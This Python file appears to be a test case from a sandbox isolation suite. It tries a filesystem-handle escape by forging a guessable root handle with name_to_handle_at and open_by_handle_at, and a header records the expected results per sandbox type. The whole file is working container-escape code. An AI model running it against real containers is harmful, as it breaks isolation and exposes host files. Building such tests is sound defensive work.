# {"expect": {"namespace": "EPERM", "gvisor": "ENOTSUP"}, "outside": "opened", "as": "root"}
# The root of a file system has a handle that anybody can guess; with it, a bound directory leads to what lies above it.
import ctypes
import os

from kit import call


def attack():
    path = "/usr"
    buffer = ctypes.create_string_buffer(136)
    ctypes.c_uint.from_buffer(buffer).value = 128
    mount = ctypes.c_int()
    try:
        call("name_to_handle_at", -100, path.encode(), buffer, ctypes.byref(mount), 0)
    except OSError:
        ctypes.c_uint.from_buffer(buffer).value = 8
        buffer[4:16] = (1).to_bytes(4, "little") + (2).to_bytes(4, "little") + bytes(4)
    os.close(call("open_by_handle_at", os.open(path, os.O_RDONLY), buffer, os.O_RDONLY))
    return "opened"
